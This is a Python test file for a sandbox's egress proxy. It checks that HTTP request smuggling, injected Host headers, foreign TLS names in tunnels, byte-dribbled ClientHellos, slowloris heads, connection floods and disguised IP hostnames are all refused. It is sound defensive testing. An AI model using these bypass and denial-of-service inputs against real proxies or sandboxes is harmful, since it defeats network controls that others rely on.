    hello = client_hello("pypi.test")
    assert tls_server_name(hello) == "pypi.test"
    assert tls_server_name(hello[:40]) is None  # not all there yet
    with pytest.raises(RequestError):
        tls_server_name(b"GET / HTTP/1.1\r\n")


async def test_a_connect_tunnel_carries_no_plain_http_and_no_tls_for_another_name(ws, counting) -> None:
    # Port 80 of a listed host, CONNECTed: plain HTTP in the tunnel could name any virtual host there.
    target = f"pypi.test:{counting.port}"
    policy = proxy_policy(ws, [target])
    connect = f"CONNECT {target} HTTP/1.1\r\n\r\n".encode()
    for opening in (b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n", client_hello("other.test"),
                    b"\x16\x03\x01\x00\x05\x02\x00\x00\x01\x00"):
        out, _, connections = await run_asked(ws, policy, "deny", "rawhex", (connect + opening).hex())
        assert out.startswith("HTTP/1.1 200"), out
        assert connections[0]["verdict"] == "denied", connections
    assert bytes(counting.received) == b""  # nothing of it reached the host
    # TLS naming the host asked for, and SSH, go through.
    # (Each ends with a blank line: the stand-in server answers at one, and the step reads to the end.)
    for opening in (client_hello("pypi.test") + b"\r\n\r\n", b"SSH-2.0-OpenSSH_9.6\r\n\r\n"):
        out, _, connections = await run_asked(ws, policy, "deny", "rawhex", (connect + opening).hex())
        assert connections[0]["verdict"] == "allowed", connections
        assert bytes(counting.received).startswith(opening[:10])
        counting.received.clear()


DRIBBLE = textwrap.dedent("""
    import socket, sys, threading
    payload = open(sys.argv[1], "rb").read()
    def one():
        s = socket.create_connection(("127.0.0.1", 3128), timeout=50)
        s.sendall(payload)
        while s.recv(65536):
            pass
    threads = [threading.Thread(target=one) for _ in range(int(sys.argv[2]))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
""")


async def test_a_client_hello_dribbled_in_tiny_records_never_holds_the_proxys_loop(ws, counting) -> None:
    # Each check of a tunnel's opening walked its TLS records from the first, on the daemon's event loop, and the
    # reads never gave the loop back while bytes were waiting: 64 such tunnels held it for 77 s, a whole step.
    target = f"pypi.test:{counting.port}"
    hello = client_hello("pypi.test")
    # The same hello, padded to ~20,000 bytes (an extension of zeros), each byte a TLS record of its own.
    body = hello[9:] + b"\x00\x15" + (20000).to_bytes(2, "big") + bytes(20000)
    extensions_at = 34 + 1 + body[34]  # version, random, session id
    extensions_at += 2 + int.from_bytes(body[extensions_at:extensions_at + 2], "big")  # cipher suites
    extensions_at += 1 + body[extensions_at]  # compression methods
    size = int.from_bytes(body[extensions_at:extensions_at + 2], "big") + 20004
    body = body[:extensions_at] + size.to_bytes(2, "big") + body[extensions_at + 2:]
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    records = b"".join(b"\x16\x03\x01\x00\x01" + message[i:i + 1] for i in range(len(message)))
    (ws.work / "payload").write_bytes(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode() + records)
    lags: list[float] = []

    async def watch() -> None:
        while True:
            started = asyncio.get_running_loop().time()
            await asyncio.sleep(0.01)
            lags.append(asyncio.get_running_loop().time() - started - 0.01)

    watching = asyncio.ensure_future(watch())
    try:
        _, _, connections = await run_asked(ws, proxy_policy(ws, [target]), "deny", "payload", "32", script=DRIBBLE)
    finally:
        watching.cancel()
    assert [c["verdict"] for c in connections] == ["denied"] * 32, connections
    assert all("ClientHello in more than 16 records" in c["how"] for c in connections), connections
    assert bytes(counting.received) == b""
    assert max(lags) < 2, max(lags)  # the proxy's loop (this test's) kept serving: ~40 ms here, ~40 s before


async def test_plain_http_sends_one_request_whose_host_is_the_one_decided(ws, counting) -> None:
    target = f"pypi.test:{counting.port}"
    policy = proxy_policy(ws, [target])
    # A second request pipelined behind the first would reach the host with a Host header of its own choosing.
    pipelined = f"GET http://{target}/ HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n"
    out = await probe(ws, policy, "raw", pipelined)
    assert out.startswith("HTTP/1.1 200"), out
    assert bytes(counting.received).count(b"GET ") == 1 and b"other.test" not in counting.received
    out = await probe(ws, policy, "raw", f"POST http://{target}/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")
    assert out.startswith("HTTP/1.1 400"), out
    # A query right after the authority is the request's (it went upstream as `GET /`, the query dropped).
    counting.received.clear()
    out = await probe(ws, policy, "raw", f"GET http://{target}?q=/1 HTTP/1.1\r\n\r\n")
    assert out.startswith("HTTP/1.1 200") and bytes(counting.received).startswith(b"GET /?q=/1 HTTP/1.1\r\n"), out
    # A request line whose method or target carries another URL between tabs (a server splitting on any whitespace,
    # or keeping the first three words, takes the absolute URL, and its host, from it), or a header whose bare LF starts
    # another to a server that ends lines at LF (a second Host: with that check dropped, no test failed): refused.
    counting.received.clear()
    for line in (f"GET\thttp://other.test/\tHTTP/1.1 http://{target}/ HTTP/1.1",
                 f"GET http://{target}/\thttp://other.test/ HTTP/1.1", f"GET http://{target}/ HTTP/1.1\tx",
                 f"GET http://{target}/ HTTP/1.1\r\nX-A: 1\nHost: other.test"):
        out = await probe(ws, policy, "raw", line + "\r\n\r\n")
        assert out.startswith("HTTP/1.1 400") and not counting.received, (line, out, bytes(counting.received))


KEPT_ALIVE = textwrap.dedent("""
    import socket, sys
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(f"GET http://{sys.argv[1]}/ HTTP/1.1\\r\\n\\r\\n".encode())
    first = b""
    while not first.endswith(b"hello"):
        first += s.recv(65536)
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n")
    try:
        print(first.split(b"\\r\\n", 1)[0].decode(), s.recv(65536).split(b"\\r\\n", 1)[0].decode() or "closed")
    except TimeoutError:
        print(first.split(b"\\r\\n", 1)[0].decode(), "no second answer")
""")


async def test_plain_http_sends_no_second_request_on_a_connection_the_host_keeps_alive(ws) -> None:
    # A host that keeps the connection open (most do, for HTTP/1.1) would take a second request sent after the first
    # answer, with a Host header the step chose (another site behind the same CDN address), never decided.
    server, received = socket.create_server(("127.0.0.1", 0)), bytearray()

    def serve() -> None:
        conn, _ = server.accept()
        with conn:
            conn.settimeout(10)
            with contextlib.suppress(OSError):
                while chunk := conn.recv(65536):
                    received.extend(chunk)
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    target = f"pypi.test:{server.getsockname()[1]}"
    try:
        status, out, err = await ws.run(["python3", "-I", "-S", "-c", KEPT_ALIVE, target], proxy_policy(ws, [target]),
                                        timeout=60)
    finally:
        server.close()
    assert out.startswith("HTTP/1.1 200 OK") and "other.test" not in bytes(received).decode(), (out, err, received)
    assert bytes(received).count(b"GET ") == 1, bytes(received)


async def test_a_host_that_is_no_name_is_refused_unasked_and_never_saved(ws, counting, tmp_path, monkeypatch) -> None:
    # A hostile step names a pattern ("*.test") or hides one behind a line break that the saved file's reader
    # splits on (\x0b, \x1c): an "always" answer must never write a wider pattern into `network-allowed`.
    from ollie.sandbox import netsaved

    monkeypatch.setenv("OLLIE_CONFIG_DIR", str(tmp_path / "config"))
    policy = proxy_policy(ws, ["pypi.test:1"])
    # An IPv6 zone is any text to `ipaddress` (a public address with one was asked about and saved, \x0b and all);
    # a name longer than DNS allows would fill the question.
    for target in ("*.test:443", "x\\x0b*.test:443", "x\\x1cother.test:443", "other.test\\t:443", "a*b.test:443",
                   "[2606:4700::1%x\\x0b*.test]:443", "[2606:4700::1%\\x1b[2J\\u202e]:443", "a" * 64 + ".test:443",
                   "a." * 130 + "test:443",
                   # Numbers the resolver reads as an address (127.0.0.1 each) but `ipaddress` does not: a name to ask
                   # about, and to save, that is an address in disguise (a listed literal denied is reached so).
                   "127.1:443", "2130706433:443", "0x7f.1:443", "0177.0.0.1:443", "0:443", "1.2.3.0x4:443"):
        asked = Asked("always")
        token = egress.asking.set(egress.NetAsk(ask=asked, remember=netsaved.remember))
        try:
            out = await probe(ws, policy, "raw", f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n")
        finally:
            egress.asking.reset(token)
        assert out.startswith("HTTP/1.1 400"), (target, out)
        assert not asked.questions, target
    assert netsaved.read_saved() == ()
    assert counting.accepted == 0


FLOOD = textwrap.dedent("""
    import select, socket, sys
    idle = [socket.create_connection(("127.0.0.1", 3128), timeout=20) for _ in range(int(sys.argv[1]))]
    last = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    last.sendall(b"CONNECT other.test:1 HTTP/1.1\\r\\n\\r\\n")
    print(last.recv(4096).split(b"\\r\\n", 1)[0].decode())
    readable, _, _ = select.select(idle, [], [], 0)
    print(len(readable))
""")


async def test_a_step_opening_connections_by_the_hundred_is_held_to_a_few(ws) -> None:
    # Idle connections that never send a request: the daemon must not hold one socket (and a relay's pipes)
    # for each, for as long as the step likes: over the cap, a connection is answered 503 and closed at once.
    count = egress.MAX_CONNECTIONS + 100
    out, _, _ = await run_asked(ws, proxy_policy(ws, ["pypi.test:1"]), "deny", str(count), script=FLOOD)
    status, closed = out.splitlines()
    assert status.startswith("HTTP/1.1 503"), out
    assert int(closed) >= count - egress.MAX_CONNECTIONS, out


async def test_a_request_head_or_tunnel_opening_that_never_comes_is_cut_off(ws, counting, monkeypatch) -> None:
    # Slowloris: a connection that sends a part of its head, or opens a tunnel and sends nothing, is closed at the
    # deadline (each holds the daemon's descriptors), and nothing reaches the server.
    monkeypatch.setattr(egress, "HEAD_TIMEOUT_S", 0.3)
    policy = proxy_policy(ws, [f"pypi.test:{counting.port}"])
    out, _, connections = await run_asked(ws, policy, "deny", "raw", f"GET http://pypi.test:{counting.port}/ "
                                                                     "HTTP/1.1\\r\\nHost: pyp")
    assert out == "HTTP/1.1 408 Request Timeout" and connections == []
    out, _, connections = await run_asked(ws, policy, "deny", "raw", f"CONNECT pypi.test:{counting.port} "
                                                                     "HTTP/1.1\\r\\n\\r\\n")
    assert out == "HTTP/1.1 200 Connection established"  # then closed: the probe read to the end
    assert connections[0]["verdict"] == "denied" and connections[0]["how"] == "no TLS or SSH opening within 0.3 s"
    assert not counting.received


MANY = textwrap.dedent("""
    import socket, sys
    port, allowed, denied = map(int, sys.argv[1:])
    for target in [f"http://pypi.test:{port}/"] * allowed + ["http://other.test:1/"] * denied:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
        s.sendall(f"GET {target} HTTP/1.1\\r\\nHost: {target.split('/')[2]}\\r\\n\\r\\n".encode())
        while s.recv(65536):
            pass
""")


async def test_connections_past_the_recorded_ones_add_up_in_one_record(ws, counting, monkeypatch) -> None:
    # A step's connections past egress.MAX_RECORDED are not recorded one by one (the result, the `tool` event and
    # the session's history would grow with each): one record counts them, their verdicts and their bytes.
    monkeypatch.setattr(egress, "MAX_RECORDED", 4)
    out, _, connections = await run_asked(ws, proxy_policy(ws, [f"pypi.test:{counting.port}"]), "deny",
                                          str(counting.port), "6", "20", script=MANY)
    assert [c["verdict"] for c in connections] == ["allowed"] * 5
    one = connections[0]
    more = connections[-1]
    assert more | {"step": ""} == {"host": "", "port": 0, "verdict": "allowed", "how": "2 allowed, 20 denied",
                                   "more": 22, "sent": 2 * one["sent"], "received": 2 * one["received"], "step": ""}
    from ollie.tools.execute.results import network_line

    assert network_line(more).startswith("... 22 more connections (2 allowed, 20 denied), sent ")
    assert counting.accepted == 6


TUNNELS = textwrap.dedent("""
    import socket, sys
    for target in sys.argv[1:]:
        s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
        s.sendall(f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n".encode())
        print(s.recv(4096).split(b"\\r\\n", 1)[0].decode())
""")


async def test_a_step_asking_host_after_host_is_stopped_after_a_few_refusals(ws, counting) -> None:
    # A host refused once is not asked about again in the step; after egress.MAX_REFUSED refusals the step's other
    # unlisted hosts are denied unasked: a step cannot hold the user in questions until they stop the turn.
    targets = ["other.test:1", "other.test:1", "a.test:1", "b.test:1", "c.test:1", "d.test:1"]
    out, asked, connections = await run_asked(ws, proxy_policy(ws, ["pypi.test:1"]), "deny", *targets,
                                              script=TUNNELS)
    assert out.splitlines() == ["HTTP/1.1 403 Forbidden"] * 6
    assert [q[0] for q in asked.questions] == ["other.test", "a.test", "b.test"]
    assert [c["how"] for c in connections] == ["deny", "refused earlier in this step", "deny", "deny"] + [
        f"no more questions: {egress.MAX_REFUSED} refused in this step"] * 2


async def test_the_sweep_of_stale_session_dirs_leaves_a_live_proxys_socket(tmp_path, monkeypatch) -> None:
    # The proxy's socket dir lies beside the sessions' dirs in ollie's runtime dir, which a session opening sweeps
    # of the dirs no live process holds: ten minutes on, it took the live proxy's socket, and every later proxy
    # step of the daemon failed to start. (A proxy of this test's own, in a runtime dir of its own.)
    import time

    from ollie.tools.execute.sessiondirs import UNOWNED_GRACE_S, sweep_stale

    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))
    own = egress.EgressProxy()
    own.start()
    try:
        sweep_stale(now=time.time() + UNOWNED_GRACE_S + 60)
        assert os.path.exists(own.path)
    finally:
        own.close()
    assert not os.path.exists(own.path)


async def test_allow_once_covers_the_steps_connections_to_that_host(ws, counting) -> None:
    # `curl a; curl b` (pip's index page, then its file) to a host the user allowed once: one question for the step,
    # as a refusal is (Bug: each connection asked again: three questions, three answers, for one command).
    target = f"other.test:{counting.port}"
    out, asked, connections = await run_asked(ws, proxy_policy(ws, ["pypi.test:1"]), "once", target, target, target,
                                              script=TUNNELS)
    assert out.splitlines() == ["HTTP/1.1 200 Connection established"] * 3
    assert len(asked.questions) == 1
    # The proxy answers once the host's kernel took the connection, maybe before the host's thread accepted it.
    await eventually(lambda: counting.accepted == 3, "the host accepting the three tunnels")
    # (Each tunnel closed before it carried anything, which its record says: what counts is who was asked.)
    assert [c.get("asked", False) for c in connections] == [True, False, False]


PARALLEL = textwrap.dedent("""
    import socket, sys, threading
    lines = []
    def connect(target):
        s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
        s.sendall(f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n".encode())
        lines.append(s.recv(4096).split(b"\\r\\n", 1)[0].decode())
    threads = [threading.Thread(target=connect, args=(t,)) for t in sys.argv[1:]]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print("\\n".join(sorted(lines)))
""")


async def test_a_steps_connections_at_once_to_one_host_wait_for_one_question(ws, counting) -> None:
    # uv fetches many files at a time: the question about their host is asked once, its answer is every one's.
    target, waiting = f"other.test:{counting.port}", 3
    questions: list[str] = []
    netask = egress.NetAsk()

    async def answer(host: str, port: int, step: str, scheme: str) -> str:
        questions.append(f"{host}:{port}")
        while len(netask.connections) < waiting:  # the others came while the user read the question
            await asyncio.sleep(0.01)
        return "deny"

    netask.ask = answer
    token = egress.asking.set(netask)
    try:
        from ollie.sandbox.spawn import spawn_sandboxed

        proc = await spawn_sandboxed(["python3", "-I", "-S", "-c", PARALLEL, *[target] * waiting],
                                     policy=proxy_policy(ws, ["pypi.test:1"]), cwd=ws.work, env=ws.env)
        out, err, _ = await asyncio.wait_for(proc.communicate(limit_bytes=1 << 20), 60)
        assert await proc.wait() == 0, err
    finally:
        egress.asking.reset(token)
    assert out.decode().split().count("403") == waiting and questions == [target]
    assert counting.accepted == 0
    assert sorted(c["how"] for c in proc.report["network"]) == ["deny"] * waiting


async def test_allow_for_this_session_covers_the_host_port_asked_in_every_spelling_and_no_other() -> None:
    """A step's request spelled to stretch an answer: case, a trailing dot, a zero-padded port are that host:port
    (not asked again); another port, a subdomain, its IP literal, a punycode look-alike are asked anew; port 0, a sign,
    non-ASCII digits or a second port are no request at all (400, nothing asked)."""
    from ollie.sandbox.proxyrequest import RequestError, read_request

    asked: list[str] = []

    async def ask(host: str, port: int, step: str, scheme: str) -> str:
        asked.append(f"{host}:{port}")
        return "session"

    session = egress.NetAsk(ask=ask)  # one session's answers, across its steps

    async def decide(target: str) -> str:
        ours, theirs = socket.socketpair()
        with ours, theirs:
            theirs.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
            ours.setblocking(False)
            try:
                _, host, port, *_ = await read_request(ours)
            except (RequestError, ValueError):
                return "400"
        step = egress.StepNet(label="s", allow=(), deny=(), max_sent=0, ask=session)  # a later step
        return (await step.decide(host, port))["how"]

    assert await decide("other.test:443") == "session" and asked == ["other.test:443"]
    for same in ("OTHER.test:443", "other.test.:443", "other.test:0443", "Other.Test.:00443"):
        assert await decide(same) == "session" and len(asked) == 1, (same, asked)
    for other in ("other.test:8443", "sub.other.test:443", "93.184.215.14:443", "xn--thr-test-9za.test:443",
                  "[2606:4700::1]:443"):
        assert await decide(other) == "session" and asked[-1] != "other.test:443", (other, asked)
    assert len(asked) == 6
    for bad in ("other.test:0", "other.test:+443", "other.test:٤٤٣", "other.test:443:443", "other.test:-1",
                "other.test:65536", "*.test:443", "other.test%00:443", "[other.test]:443"):
        assert await decide(bad) == "400" and len(asked) == 6, (bad, asked)


async def test_a_steps_connections_at_once_to_many_hosts_ask_one_at_a_time_and_stop_after_a_few_refusals(
        ws, counting) -> None:
    # Eight hosts at once (threads): each asked while the others waited put eight questions before the user together,
    # and the refusals' limit (egress.MAX_REFUSED) held none of them back. One question at a time: after the third
    # refusal the rest are denied unasked.
    hosts = [f"h{n}.test:{counting.port}" for n in range(8)]
    questions: list[str] = []
    netask = egress.NetAsk()

    async def answer(host: str, port: int, step: str, scheme: str) -> str:
        questions.append(host)
        while len(netask.connections) < len(hosts):  # every connection is waiting while the user reads this one
            await asyncio.sleep(0.01)
        return "deny"

    netask.ask = answer
    token = egress.asking.set(netask)
    try:
        from ollie.sandbox.spawn import spawn_sandboxed

        proc = await spawn_sandboxed(["python3", "-I", "-S", "-c", PARALLEL, *hosts],
                                     policy=proxy_policy(ws, ["pypi.test:1"]), cwd=ws.work, env=ws.env)
        out, err, _ = await asyncio.wait_for(proc.communicate(limit_bytes=1 << 20), 60)
        assert await proc.wait() == 0, err
    finally:
        egress.asking.reset(token)
    assert out.decode().split().count("403") == len(hosts) and counting.accepted == 0
    assert len(questions) == egress.MAX_REFUSED
    hows = sorted(c["how"] for c in proc.report["network"])
    assert hows == ["deny"] * 3 + [f"no more questions: {egress.MAX_REFUSED} refused in this step"] * 5
    assert sum(bool(c.get("asked")) for c in proc.report["network"]) == 3


async def test_the_time_a_network_question_is_on_screen_is_not_taken_from_the_call_s_timeout(ws, counting) -> None:
    # The step's timeout ran on while the user read its question: answered after it, the step was killed unfinished,
    # and the call's next step had no time left.
    from ollie.tools.execute.languages import Invocation
    from ollie.tools.execute.runner import Deadline, Runner

    loop = asyncio.get_running_loop()
    deadline = Deadline(3)
    past_timeout = loop.create_future()

    async def ask(host: str, port: int, step: str, scheme: str) -> str:
        loop.call_at(deadline.started + 4, past_timeout.set_result, None)  # answered past the call's 3 s
        await past_timeout
        return "once"

    runner = Runner(session_id="s", cwd=ws.work, lock_dir=ws.root / "locks")
    token = egress.asking.set(egress.NetAsk(ask=ask))
    try:
        fetched, after = [await runner.run(Invocation(["python3", "-I", "-S", "-c", *program], None), env=ws.env,
                                           policy=proxy_policy(ws, []), deadline=deadline)
                          for program in ((PROBE, "urllib", f"http://other.test:{counting.port}/x"), ("print(1)",))]
    finally:
        egress.asking.reset(token)
    assert not fetched.timed_out and fetched.stdout.decode().strip() == "hello", fetched.stderr
    assert not after.timed_out and after.stdout == b"1\n", after.stderr


async def test_allow_once_is_never_the_next_steps_or_an_mcp_servers_next_calls_answer() -> None:
    # "Allow once" covers the step asked for (its other connections there), never a later step of the session, nor a
    # later call of an MCP server (one process, its question path moving from call to call): with it kept as the
    # session's, or kept past the call, no test failed (mutants28).
    asked: list[str] = []

    async def ask(host: str, port: int, step: str, scheme: str) -> str:
        asked.append(step)
        return "once"

    session = egress.NetAsk(ask=ask)
    for label in ("first", "second"):
        step = egress.StepNet(label=label, allow=(), deny=(), max_sent=0, ask=session)
        assert [(await step.decide("other.test", 443))["how"] for _ in range(2)] == ["once", "once"]
    assert asked == ["first", "second"] and not session.session_allowed

    class Server:  # its question path: the NetAsk of the call running now (mcp/client.py)
        current = egress.NetAsk(ask=ask)

    server = Server()
    step = egress.StepNet(label="server", allow=(), deny=(), max_sent=0, ask=server)
    for _ in range(2):
        server.current = egress.NetAsk(ask=ask)  # the server's next call
        assert (await step.decide("other.test", 443))["how"] == "once"
    assert asked == ["first", "second", "server", "server"]
